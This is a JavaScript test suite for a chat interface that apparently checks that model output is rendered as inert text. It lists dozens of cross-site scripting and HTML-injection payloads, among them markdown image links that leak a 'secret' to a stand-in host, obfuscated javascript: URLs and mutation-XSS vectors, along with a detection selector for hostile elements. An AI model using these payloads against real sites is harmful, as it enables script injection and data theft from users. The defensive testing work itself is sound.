// A model's output is text: its HTML does not become markup, no script runs, and no other host gets a request.
import { Page, assert, chat, person, test, url } from "./site.mjs";

const ATTACKS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<img src=https://evil.example/a.png>",
  "![leak](https://evil.example/a.png?q=secret)",
  "![leak](//evil.example/a.png)",
  "![x](data:image/svg+xml,%3Csvg onload=window.pwned=1%3E)",
  "![x][r]\n\n[r]: https://evil.example/ref.png",
  "<svg onload='window.pwned = 1'></svg>",
  "<svg><script>window.pwned = 1</script></svg>",
  "<svg><use href='https://evil.example/a.svg#x'/></svg>",
  "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "<iframe src='javascript:window.pwned=1'></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data='https://evil.example/'></object>",
  "<embed src='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=q><button>Go</button></form>",
  "<input autofocus onfocus='window.pwned = 1'>",
  "<body onload='window.pwned = 1'>",
  "<details open ontoggle='window.pwned = 1'><summary>x</summary></details>",
  "<video src=https://evil.example/a.mp4 onerror='window.pwned = 1'></video>",
  "<audio src=x onerror='window.pwned = 1'>",
  "<video poster=https://evil.example/p.png></video>",
  "<picture><source srcset=https://evil.example/s.png><img></picture>",
  "<a href='javascript:window.pwned=1'>x</a>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](java\tscript:window.pwned=1)",
  "[x](&#106;avascript:window.pwned=1)",
  "[x](javascript&colon;window.pwned=1)",
  "[x](vbscript:window.pwned=1)",
  "[x](data:text/html,<script>window.pwned=1</script>)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "<javascript:window.pwned=1>",
  "[x](https://evil.example/ \"onmouseover='window.pwned=1'\")",
  "[x](https://evil.example/\"onmouseover=window.pwned=1)",
  "`<script>window.pwned = 1</script>`",
  "```\n<script>window.pwned = 1</script>\n```",
  "```html\n<img src=x onerror=window.pwned=1>\n```",
  "```\"onmouseover=\"window.pwned=1\ncode\n```",
  "```<img src=x onerror=window.pwned=1>\ncode\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | x |",
  "- <img src=x onerror=window.pwned=1>\n- [ ] <script>window.pwned=1</script>",
  "> <script>window.pwned = 1</script>",
  "# <img src=x onerror=window.pwned=1>",
  "**<img src=x onerror=window.pwned=1>**",
  "<div style='position:fixed;inset:0;background:url(https://evil.example/b.png)'>x</div>",
  "<p class='banner lost' id='composer'>x</p>",
  "<img name=body><img id=settings>",
  "<template><script>window.pwned = 1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<!--<img src='--><img src=x onerror=window.pwned=1>'>",
  "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.pwned = 1</x:script>",
  "<select><noembed></select><script>window.pwned = 1</script></noembed>",
  "<table background='https://evil.example/t.png'><tr><td>x</table>",
  "<a href='https://evil.example/' ping='https://evil.example/ping'>x</a>",
  "&lt;img src=x onerror=window.pwned=1&gt;",
  "\u202e<img src=x onerror=window.pwned=1>",
];

/** Elements that a message may contain. */
const ALLOWED = "p,br,hr,h3,h4,h5,h6,ul,ol,li,blockquote,pre,code,em,strong,del,a,table,thead,tbody,tr,th,td,div,span,button,svg,use".split(",");

/** Elements that no author's text may become anywhere on the page: it has none of its own. */
const FOREIGN = "body :is(script:not([src], [type='application/json']), img:not(.picture), iframe, object, embed, link, style, base, meta, video, audio, source, picture, math, template, body, [onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [style*=url], [srcset], [ping], [background])";

const inspect = (page) => page.tab.evaluate(([allowed, foreign]) => {
  const found = [...document.querySelectorAll(foreign)].map((element) => element.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll(".md *, .bubble *, .card-b *")) {
    // A card has lists and details of its own.
    if (element.closest(".md, .bubble") && !allowed.includes(element.localName)) found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^src|^srcset$|^id$/.test(name)) found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:|mailto:|#i-)/.test(value)) found.push(`${name}=${value}`);
    }
  }
  if (window.pwned !== undefined) found.push("A script ran.");
  return found;
}, [ALLOWED, FOREIGN]);

test(`${ATTACKS.length} attacks are inert, while they stream and afterwards`, async () => {
  const page = await chat(await person(), { assistant: "echo" });
  for (let place = 0; place < ATTACKS.length; place += 8) {
    await page.ask(ATTACKS.slice(place, place + 8).join("\n\nand\n\n"));
    assert.deepEqual(await inspect(page), []);
  }
  await page.tab.reload();
  await page.has(".md", "and");
  await page.tab.waitForFunction((count) => document.querySelectorAll(".answer").length === count, Math.ceil(ATTACKS.length / 8));
  assert.deepEqual(await inspect(page), []);
  await page.done();
});

/** Where the page shows what the graph `hostile` says. */
const PLACES = {
  "a thought": ".thought", "a text": ".step > .md", "a tool's name": ".card summary b", "a call in one line": ".card summary .arg", "arguments": ".card-b .json dt", "a result": ".card-b .code", "an unknown part": ".fold summary.note",
  "a file of a message": ".filechip", "a file": ".artlink b", "a sub-agent": ".note span, .card summary b", "a to-do": ".todos li", "the plan": ".plan .now", "the title": "#title", "the list": ".threads li a", "a message": ".bubble",
  "a question": ".q .asked-what", "a choice": ".q .options .b", "a tab": ".q .tab", "an argument": ".q .f textarea", "a field": ".q .f label", "an option": ".q option", "a description": ".q .md",
};

test("in all other places they are inert too", async () => {
  const page = await chat(await person(), { assistant: "hostile" });
  const all = ATTACKS.join("\n");
  await page.tab.setInputFiles("input[type=file]", { name: `${all}.txt`, mimeType: "text/plain", buffer: Buffer.from(all) });
  await page.has(".chip", "pwned");
  await page.send(all);
  await page.has(".q");
  for (let turn = 0; turn < 2; turn += 1) {
    // What opens is filled only then.
    for (let depth = 0; depth < 4; depth += 1) await page.tab.evaluate(() => new Promise((done) => {
      document.querySelectorAll("details").forEach((each) => (each.open = true));
      setTimeout(done);
    }));
    const missing = await page.tab.evaluate((places) => Object.entries(places).filter(([, selector]) => ![...document.querySelectorAll(selector)].some((each) => `${each.value} ${each.textContent}`.includes("pwned"))).map(([name]) => name), PLACES);
    assert.deepEqual(missing, []);
    assert.deepEqual(await inspect(page), []);
    if (!turn) await page.tab.reload();
    await page.has(".q");
  }
  await page.button("3 files").click();
  assert.deepEqual(await inspect(page), []);
  await page.tab.keyboard.press("Escape");
  for (const place of [0, 1, 2]) {
    await page.button("3 files").click();
    await page.tab.getByRole("menuitemradio").nth(place).click();
    await page.has(".panel-b", "pwned");
    assert.deepEqual(await inspect(page), []);
  }
  await page.tab.fill("#find", "evil.example");
  await page.has(".snippet", "<img src=https://evil.example");
  assert.deepEqual(await inspect(page), []);
  await page.done();
});

test("on the page of a run they are inert too", async () => {
  const post = async (path, body) => (await fetch(`${url}/${path}`, { method: "POST", body: JSON.stringify(body) })).json();
  const { thread_id: thread } = await post("threads", {});
  const input = { messages: [{ role: "user", content: ATTACKS.join("\n") }] };
  await post(`threads/${thread}/runs/wait`, { assistant_id: "hostile", input });
  const [{ run_id: run }] = await (await fetch(`${url}/threads/${thread}/runs`)).json();
  const page = new Page(await (await person()).newPage());
  await page.tab.goto(`${url}/admin/login/?next=/admin/runs/run/${run}/change/`);
  await page.tab.fill("#id_username", "ada");
  await page.tab.fill("#id_password", "a good password");
  await page.tab.locator("[type=submit]").click();
  await page.has(".q", "pwned");
  await page.has(".wf", "<script>window.pwned");
  await page.tab.evaluate(() => document.querySelectorAll("details").forEach((each) => (each.open = true)));
  assert.deepEqual(await inspect(page), []);
  await page.done();
});

test("markdown is shown as such, and links say where they lead", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask("# Title\n\nA **bold** [word](https://example.com/x) and <https://example.org/>.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\ndef f():\n    return 1\n```\n\n- [x] done");
  const { md } = { md: page.tab.locator(".md") };
  await md.locator(".hljs-keyword").first().waitFor();
  assert.equal(await md.locator("h3").innerText(), "Title");
  assert.match(await md.innerText(), /word \(example\.com\) and https:\/\/example\.org\//);
  assert.deepEqual(await md.locator("td").allInnerTexts(), ["1", "2"]);
  assert.equal(await md.locator("a").first().getAttribute("rel"), "noopener noreferrer nofollow");
  assert.match(await md.innerText(), /☑ done/);
  await page.tab.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.button("Copy the code").click();
  assert.equal(await page.tab.evaluate(() => navigator.clipboard.readText()), "def f():\n    return 1");
  await page.done();
});

test("lists keep their numbers, columns their sides, and headings their ranks", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask("# One\n\n## Two\n\n### Three\n\n#### Four\n\n1. a\n2. b\n\n```js\nx\n```\n\n3. c\n\n| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |");
  await page.tab.reload();
  await page.has(".md td");
  assert.deepEqual(await page.tab.locator(".md ol").evaluateAll((lists) => lists.map(({ start }) => start)), [1, 3]);
  assert.deepEqual(await page.tab.locator(".md td").evaluateAll((cells) => cells.map((cell) => getComputedStyle(cell).textAlign)), ["start", "center", "end"]);
  const sizes = await page.tab.locator(".md :is(h3, h4)").evaluateAll((headings) => headings.map((heading) => parseFloat(getComputedStyle(heading).fontSize)));
  assert.equal(new Set(sizes).size, 4);
  assert.deepEqual(sizes, sizes.toSorted((one, other) => other - one));
  await page.done();
});

test("a link cannot pretend to lead elsewhere", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask([
    "[https://bank.example/?r=evil.test](https://evil.test)", "[https://x.com](https://x.co)", "[x.com@evil.test](https://evil.test)", "https://plain.example/a",
    "[a file](docs/a.md)", "[a place](#top)", "[another](//evil.test)", "[script](javascript:alert(1))",
  ].join("\n\n"));
  const lines = (await page.tab.locator(".md p").allInnerTexts()).map((each) => each.trim());
  assert.deepEqual(lines, [
    "https://bank.example/?r=evil.test (evil.test)", "https://x.com (x.co)", "x.com@evil.test (evil.test)", "https://plain.example/a",
    "a file", "a place", "another", "script",
  ]);
  assert.equal(await page.tab.locator(".md a").count(), 4);
  await page.done();
});

const DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

test("a picture that a tool answers is shown", async () => {
  const messages = [
    { type: "human", content: "Look" },
    { type: "ai", content: "", tool_calls: [{ name: "look", args: {}, id: "c1" }] },
    { type: "tool", tool_call_id: "c1", name: "look", content: [{ type: "image_url", image_url: { url: `data:image/png;base64,${DOT}` } }] },
    { type: "ai", content: "A dot." },
  ];
  const made = await fetch(`${url}/threads`, { method: "POST", body: JSON.stringify({ metadata: { graph_id: "obeying" }, supersteps: [{ updates: [{ values: { messages }, as_node: "talk" }] }] }) });
  const page = await chat(await person(), { thread: (await made.json()).thread_id });
  await page.tab.locator("details.card summary", { hasText: "look" }).click();
  await page.has(".card-b", "Result");
  await page.has(".card-b img.picture");
  await page.done();
});

test("a thought is folded, and says how long it took", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask(`thinking: ${"about it for a while ".repeat(12)}\nThe answer.`);
  await page.tab.getByText(/^Thought for/).click();
  await page.has(".thought", "about it for a while");
  assert.deepEqual((await page.texts()).map((text) => text.trim()), ["The answer."]);
});
